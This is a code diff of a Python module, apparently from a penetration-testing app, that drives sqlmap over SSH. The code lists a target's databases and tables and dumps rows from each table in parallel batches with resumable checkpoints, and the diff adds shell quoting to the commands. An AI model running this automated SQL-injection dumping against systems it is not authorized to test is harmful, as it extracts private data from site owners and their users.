@@ -1,17 +1,51 @@
+import io
+import re
+import shlex
+import threading
+from concurrent.futures import ThreadPoolExecutor, as_completed
+from urllib.parse import urlparse
+
 from paramiko.ssh_exception import SSHException
 from werkzeug.exceptions import InternalServerError
 
+from app.models.dump_checkpoints import DumpCheckpoint
 from app.utils.connection_pool import pool
+from app.utils.ssh_connection import CommandFailed
 
 common_mysql_dbs = ["information_schema", "mysql", "performance_schema"]
 
 
-def get_command(command_key: str, target: str, database: str = None, table: str = None, column: str = None):
+def quote_names(names):
+    """
+    Quotes database / table / column names for the shell command, names come from the target's own output
+    :param names: name OR list of names (comma separated list for sqlmap)
+    :return: quoted names
+    :raise InternalServerError: a name contains a comma (it would be split in two by sqlmap)
+    """
+    names = names if isinstance(names, (list, tuple)) else [names]
+    for name in names:
+        if ',' in name:
+            raise InternalServerError(f'Unsupported name {name!r} (comma)')
+    return ','.join(shlex.quote(name) for name in names)
+
+
+def get_command(command_key: str, target: str, database: str = None, table=None, column: str = None):
+    """
+    :param table: table name, or list of tables for 'dump-tables'
+    :return: sqlmap command, every value is quoted for the shell
+    """
+    target = shlex.quote(target)
+    database = quote_names(database) if database is not None else None
+    table = quote_names(table) if table is not None else None
+    column = quote_names(column) if column is not None else None
+
     sqlmap_commands = {
 
         'get_dbs': f"sqlmap -u {target} --batch --dbs",
         'get-tables': f"sqlmap -u {target} --batch -D {database} --tables",
         'dump-table': f"sqlmap -u {target} --batch  -D {database} -T {table} --dump",
+        # table is a list of tables, dumped by a single sqlmap run
+        'dump-tables': f"sqlmap -u {target} --batch -D {database} -T {table} --dump",
         'dump-column': f"sqlmap -u {target} --batch -D {database} -T {table} -C {column} --dump",
         # Additional
         'form-test': f"sqlmap -u {target} --batch --forms",
@@ -28,20 +62,30 @@ def add_options(command: str, options: dict):
 
     '''
 
-    if options['threads']:
-        command += f" --threads={options['threads']}"
-    if options['risk']:
-        command += f" --risk={options['risk']}"
-    if options['level']:
-        command += f" --level={options['level']}"
-    if options['tamper']:
-        command += f" --tamper={','.join(options['tamper'])}"
-    if options['crawl']:
-        command += f" --crawl={options['crawl']}",
-    if options['ssl']:
+    options = options or {}
+
+    # values are quoted for the shell, they come from the request
+    if options.get('threads'):
+        command += f" --threads={shlex.quote(str(options['threads']))}"
+    if options.get('risk'):
+        command += f" --risk={shlex.quote(str(options['risk']))}"
+    if options.get('level'):
+        command += f" --level={shlex.quote(str(options['level']))}"
+    if options.get('tamper'):
+        command += f" --tamper={shlex.quote(','.join(options['tamper']))}"
+    if options.get('crawl'):
+        command += f" --crawl={shlex.quote(str(options['crawl']))}"
+    if options.get('ssl'):
         command += " --force-ssl"
-    if options['delay']:
-        command += f" --delay={options['delay']}"
+    if options.get('delay'):
+        command += f" --delay={shlex.quote(str(options['delay']))}"
+    if options.get('start'):
+        command += f" --start={shlex.quote(str(options['start']))}"
+    if options.get('stop'):
+        command += f" --stop={shlex.quote(str(options['stop']))}"
+    if options.get('output_dir'):
+        # sqlmap session kept there, reusing it skips the injection detection
+        command += f" --output-dir={shlex.quote(str(options['output_dir']))}"
 
     return command
 
@@ -53,40 +97,45 @@ def add_options(command: str, options: dict):
 ################################################################
 
 
-# Retrives info such as DBMS type and list of databases.
-def parse_dbs_output(shell_output: str):
-    dbms_type: str
-    databases = []
-
-    # Split strtings by newline
-    split_output = shell_output.split("\n")
+def iter_lines(shell_output):
+    """
+    Gives the lines of the output one by one, stripped
+    :param shell_output: whole output (str) or iterable of lines (e.g. streamed from ssh)
+    :return: generator of lines
+    """
+    if isinstance(shell_output, str):
+        shell_output = io.StringIO(shell_output)
+    for line in shell_output:
+        yield line.strip()
 
-    # Strip whitespaces on the begining and end of the string.
-    split_output = [item.strip() for item in split_output]
 
-    # Recursive method for finding all DB names outputed by SQLMap tool.
-    def find_db_names(item: str):
+def split_row(line: str):
+    # "| a | b |" -> ["a", "b"]
+    return [cell.strip() for cell in line[1:-1].split('|')]
 
-        next_item = split_output[split_output.index(item) + 1]
 
-        if "[*]" in next_item:
-            databases.append(next_item.split(" ")[1])
-
-            find_db_names(next_item)
-
-        else:
-            return databases
+# Retrives info such as DBMS type and list of databases.
+def parse_dbs_output(shell_output):
+    dbms_type = None
+    databases = []
+    in_databases = False
 
-    for item in split_output:
+    for item in iter_lines(shell_output):
 
         # Find DBMS type.
-        if "back-end DBMS" in item:
-            dbms_type = item.split(" ")
-            dbms_type = " ".join(dbms_type[2:])
-
-        # Find DBs
-        if "available databases" in item and item is not split_output[-1]:
-            find_db_names(item)
+        if "back-end DBMS:" in item:
+            dbms_type = item.split("back-end DBMS:", 1)[1].strip()
+        elif "back-end DBMS is" in item and not dbms_type:
+            dbms_type = item.split("back-end DBMS is", 1)[1].strip()
+
+        # Find DBs, listed as "[*] name" right after "available databases [n]:"
+        if "available databases" in item:
+            in_databases = True
+        elif in_databases:
+            if item.startswith("[*]"):
+                databases.append(item[3:].strip())
+            else:
+                in_databases = False
 
     databases = [
         db_name for db_name in databases if db_name not in common_mysql_dbs]
@@ -95,65 +144,195 @@ def parse_dbs_output(shell_output: str):
 
 
 # Retrives all table names from a given databse.
-def parse_tables_output(shell_output: str):
-    tables = []
-
-    # Split strtings by newline
-    split_output = shell_output.split("\n")
-    # Strip whitespaces on the begining and end of the string.
-    split_output = [item.strip() for item in split_output]
-
-    # Recursive method for finding all table names outputed by SQLMap tool.
-    def find_table_names(item: str):
-
-        next_item = split_output[split_output.index(item) + 1]
-        if '|' in next_item:
-            tables.append(next_item.split(" ")[1])
-            find_table_names(next_item)
-        else:
-            return tables
-
-    for item in split_output:
-        # Find tables
-        if '+' in item and item is not split_output[-1]:
-            find_table_names(item)
-
-    tables = list(set(tables))
-
+def parse_tables_output(shell_output):
+    tables = {}
+    in_table = False
+
+    for item in iter_lines(shell_output):
+        # tables are listed between two "+---+" borders
+        if item.startswith('+'):
+            in_table = not in_table
+        elif in_table and item.startswith('|'):
+            tables[split_row(item)[0]] = True
+
+    # keeps the order of appearance without duplicates
     return list(tables)
 
 
-#  Retrives 5 (default) rows of a given db table.
-def parse_table_dump_output(shell_output: str, numrows: int = 5):
-    rows = []
-    first_plus = True
-
-    # Split strtings by newline
-    split_output = shell_output.split("\n")
-    # Strip whitespaces on the begining and end of the string.
-    split_output = [item.strip() for item in split_output]
-
-    # Return first couple of rows from the db table dump.
-    for item in split_output:
+# "[WARNING] table 'users' in database 'db' appears to be empty"
+empty_table = re.compile(r"table '([^']+)'.*appears to be empty")
+
+
+def iter_dumped_tables(shell_output, numrows: int = None):
+    """
+    Reads table dumps as printed by sqlmap, in a single pass:
+
+        Database: db
+        Table: users
+        [2 entries]
+        +----+------+
+        | id | name |
+        +----+------+
+        | 1  | a    |
+        | 2  | b    |
+        +----+------+
+
+    :param shell_output: whole output (str) or iterable of lines
+    :param numrows: maximum number of rows kept per table (None for all)
+    :return: generator of {"database": , "table": , "columns": [], "rows": [{column: value}]}
+    """
+    database = table = None
+    dump = None
+    # number of "+---+" borders seen in the current table dump: 1 header, 2 rows, 3 end
+    borders = 0
+
+    for item in iter_lines(shell_output):
+        if item.startswith('Database:'):
+            database = item.split(':', 1)[1].strip()
+        elif item.startswith('Table:'):
+            table = item.split(':', 1)[1].strip()
+            dump = {"database": database, "table": table, "columns": [], "rows": []}
+            borders = 0
+        elif dump is None:
+            continue
+        elif item.startswith('+'):
+            borders += 1
+            if borders == 3:
+                yield dump
+                dump = None
+        elif item.startswith('|'):
+            if borders == 1:
+                dump["columns"] = split_row(item)
+            elif borders == 2 and (numrows is None or len(dump["rows"]) < numrows):
+                dump["rows"].append(dict(zip(dump["columns"], split_row(item))))
+
+    # truncated output
+    if dump is not None and dump["columns"]:
+        yield dump
 
-        if '+' in item and first_plus:
 
-            first_plus = False
-            for i in range(1, numrows + 1):
-
-                next_item = split_output[split_output.index(item) + i]
-                if '|' == next_item[0]:
-                    rows.append(next_item)
+#  Retrives 5 (default) rows of a given db table.
+def parse_table_dump_output(shell_output, numrows: int = 5):
+    for dump in iter_dumped_tables(shell_output, numrows):
+        return dump["rows"]
 
-    return list(rows)
+    return []
 
 
 ################################################################
 ################################################################
 
 
+# commands running at the same time against each target host
+target_slots = {}
+target_slots_lock = threading.Lock()
+
+
+def get_target_slots(target: str):
+    """
+    :param target: target url
+    :return: semaphore limiting the concurrent sqlmap runs against the target host (SQLMAP_TARGET_CONCURRENCY)
+    """
+    from app import app
+
+    host = urlparse(target).netloc or target
+    with target_slots_lock:
+        if host not in target_slots:
+            target_slots[host] = threading.BoundedSemaphore(app.config.get('SQLMAP_TARGET_CONCURRENCY', 4))
+        return target_slots[host]
+
+
+def run_sqlmap(target: str, command: str, parser):
+    """
+    Runs a sqlmap command on a pooled node having sqlmap, the output is parsed line by line while it arrives
+    :param target: target url, the command waits for a free slot of the target
+                   and for a free node connection (SQLMAP_ACQUIRE_TIMEOUT)
+    :param command: sqlmap command
+    :param parser: output parser, called with the iterator of output lines
+    :return: result of the parser
+    """
+    from app import app
+
+    # sqlmap runs hold their channel for long, waiting for one is expected under parallel dumps
+    timeout = app.config.get('SQLMAP_ACQUIRE_TIMEOUT', 1800)
+    with get_target_slots(target), pool.lease(['sqlmap'], timeout=timeout) as ssh_client:
+        lines = ssh_client.iter_lines(command)
+        try:
+            return parser(lines)
+        except CommandFailed as e:
+            raise InternalServerError(f'sqlmap command failed: {e.stderr.strip()}')
+        finally:
+            lines.close()
+
+
+def list_tables(target: str, db: str, options: dict = None):
+    return run_sqlmap(target, add_options(get_command('get-tables', target, db), options), parse_tables_output)
+
+
+def dump_tables(target: str, db: str, tables: list, options: dict = None, numrows: int = 5):
+    """
+    Dumps several tables of a database with a single sqlmap run (one startup and injection detection),
+    only the first numrows rows of each table are retrieved
+
+    :param target: target url
+    :param db: database of the tables
+    :param tables: tables to dump
+    :param options: sqlmap options
+    :param numrows: rows kept per table
+    :return: {table: rows} of the tables found in the output (empty tables have no rows),
+             tables sqlmap could not dump are missing
+    """
+    options = dict(options or {}, start=1, stop=numrows)
+
+    # sqlmap may print the table qualified (schema.table) or in another case
+    names = {table.lower(): table for table in tables}
+
+    def find_table(name):
+        return names.get(name.lower()) or names.get(name.split('.')[-1].lower())
+
+    def parse_dumps(lines):
+        rows = {}
+        empty = []
+
+        def watch_empty(lines):
+            for line in lines:
+                match = empty_table.search(line)
+                if match:
+                    empty.append(match.group(1))
+                yield line
+
+        for dump in iter_dumped_tables(watch_empty(lines), numrows):
+            table = find_table(dump["table"])
+            if table:
+                rows[table] = dump["rows"]
+        for name in empty:
+            table = find_table(name)
+            if table and table not in rows:
+                rows[table] = []
+        return rows
+
+    return run_sqlmap(target, add_options(get_command('dump-tables', target, db, list(tables)), options),
+                      parse_dumps)
+
+
 # DUMPING ROWS FROM ALL TABLES FOUND IN DBs
-def run_tables_dump(target: str, options: dict = None) -> dict:
+def run_tables_dump(target: str, options: dict = None, concurrency: int = None, mission_id: str = None) -> dict:
+    """
+    Lists the databases of the target, then the tables of each database and dumps every table.
+    Tables listing and dumps run in parallel on several pooled connections,
+    never more than SQLMAP_TARGET_CONCURRENCY at once against the same target.
+
+    With a mission, progress is checkpointed after every database and table step:
+    a dump interrupted before its end resumes from the checkpoint and skips the completed steps
+
+    :param target: target url
+    :param options: sqlmap options (see add_options)
+    :param concurrency: number of sqlmap runs at the same time for this dump (SQLMAP_TARGET_CONCURRENCY by default)
+    :param mission_id: mission the dump belongs to, enables checkpointing
+    :return: report of the found databases, tables and rows
+    """
+    from app import app
+
     retrived_data = {
         "target": f"{target}",
         "dbms_type": "",
@@ -161,36 +340,97 @@ def run_tables_dump(target: str, options: dict = None) -> dict:
         "tables": {}
     }
 
-    try:
-        # Find all databases
-        ssh_client = pool.get_ssh_connection(['sqlmap'])
+    concurrency = concurrency or app.config.get('SQLMAP_TARGET_CONCURRENCY', 4)
+    # tables dumped by the same sqlmap run: fewer processes and injection detections, later first results
+    batch_size = max(1, app.config.get('SQLMAP_DUMP_BATCH_SIZE', 5))
+    numrows = app.config.get('SQLMAP_DUMP_ROWS', 5)
 
-        if not ssh_client:
-            raise InternalServerError('Could not get SSH connection')
+    checkpoint = None
+    listed, dumped = {}, set()
+    if mission_id:
+        checkpoint = DumpCheckpoint.resume_or_start(mission_id, target,
+                                                    app.config.get('SQLMAP_OUTPUT_DIR', '/tmp/sqlmap-output'))
+        options = dict(options or {}, output_dir=checkpoint.output_dir)
 
-        dbs_output = ssh_client.run_command(add_options(
-            get_command('get_dbs', target), options))
-        dbs, dbms_type = parse_dbs_output(dbs_output)
+        # Restore completed steps in report.
+        listed = {entry.database: entry.tables for entry in checkpoint.listed}
+        for entry in checkpoint.dumped:
+            retrived_data["tables"][entry.table] = entry.rows
+            dumped.add((entry.database, entry.table))
+
+    try:
+        if checkpoint and checkpoint.databases is not None:
+            dbs, dbms_type = checkpoint.databases, checkpoint.dbms_type
+        else:
+            # Find all databases
+            dbs, dbms_type = run_sqlmap(target, add_options(get_command('get_dbs', target), options), parse_dbs_output)
+            if checkpoint:
+                checkpoint.save_databases(dbms_type, dbs)
 
         # Store found results in report.
         retrived_data["dbms_type"] = dbms_type
 
-        # Search all databases for all tables.
-        for db in dbs:
-
-            tables_output = ssh_client.run_command(add_options(get_command('get_table', target, db), options))
-            tables_list = parse_tables_output(tables_output)
-
-            # Store found tables to report.
-            retrived_data["databases"][db] = tables_list
-
-            for table in tables_list:
-                table_dump_output = ssh_client.run_command(get_command('dumb_table', target, db, table))
-
-                rows_dump = parse_table_dump_output(
-                    table_dump_output)
-                retrived_data["tables"][table] = rows_dump
+        with ThreadPoolExecutor(max_workers=concurrency, thread_name_prefix='sqlmap') as executor:
+            dump_futures = {}
+
+            def submit_dumps(db, tables_list):
+                # Store found tables to report.
+                retrived_data["databases"][db] = tables_list
+
+                remaining = [table for table in tables_list if (db, table) not in dumped]
+                # a name with a comma is refused by get_command, alone so that it fails only its own step
+                for table in [table for table in remaining if ',' in table]:
+                    dump_futures[executor.submit(dump_tables, target, db, [table], options, numrows)] = (db, [table])
+                remaining = [table for table in remaining if ',' not in table]
+                for i in range(0, len(remaining), batch_size):
+                    batch = remaining[i:i + batch_size]
+                    dump_futures[executor.submit(dump_tables, target, db, batch, options, numrows)] = (db, batch)
+
+            for db in dbs:
+                if db in listed:
+                    submit_dumps(db, listed[db])
+
+            # Search all databases for all tables.
+            tables_futures = {executor.submit(list_tables, target, db, options): db for db in dbs if db not in listed}
+
+            # a failed step does not prevent checkpointing the steps that succeeded
+            error = None
+
+            # tables of a database are dumped as soon as they are listed
+            for future in as_completed(tables_futures):
+                db = tables_futures[future]
+                try:
+                    tables_list = future.result()
+                except Exception as e:
+                    error = error or e
+                    continue
+                if checkpoint:
+                    checkpoint.save_tables(db, tables_list)
+                submit_dumps(db, tables_list)
+
+            for future in as_completed(dump_futures):
+                db, batch = dump_futures[future]
+                try:
+                    batch_dump = future.result()
+                except Exception as e:
+                    error = error or e
+                    continue
+                for table, rows_dump in batch_dump.items():
+                    if checkpoint:
+                        checkpoint.save_table_dump(db, table, rows_dump)
+                    retrived_data["tables"][table] = rows_dump
+
+                # tables missing from the output failed, they are not checkpointed and dumped again on resume
+                missing = [table for table in batch if table not in batch_dump]
+                if missing:
+                    error = error or InternalServerError(f"sqlmap did not dump {', '.join(missing)} of {db}")
+
+            if error:
+                raise error
     except SSHException:
         raise InternalServerError
 
+    if checkpoint:
+        checkpoint.complete()
+
     return retrived_data